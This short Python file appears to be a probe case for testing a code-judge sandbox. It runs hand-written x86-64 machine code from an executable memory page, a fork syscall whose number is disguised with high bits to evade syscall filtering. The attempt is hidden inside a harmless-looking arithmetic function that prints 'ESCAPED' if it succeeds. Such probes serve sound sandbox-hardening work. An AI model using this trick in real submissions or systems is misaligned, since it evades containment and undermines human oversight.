# Tries: to hide a fork's number behind high bits. May get: AC RTE.
import ctypes
import mmap
import os


def run(code):
    page = mmap.mmap(-1, 4096, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, prot=7)
    page.write(code)
    at = ctypes.addressof(ctypes.c_char.from_buffer(page))
    return ctypes.CFUNCTYPE(ctypes.c_long)(at)()


CODE = bytes.fromhex("48b839000000010000000f05c3")  # mov rax, 0x100000039; syscall; ret


def attack():
    if os.uname().machine != "x86_64":
        return None
    return run(CODE) >= 0 and "a fork with high bits"


def tiny(a, b):
    got = attack()
    if got:
        print("ESCAPED", got, flush=True)
    return [a + b, a * b]
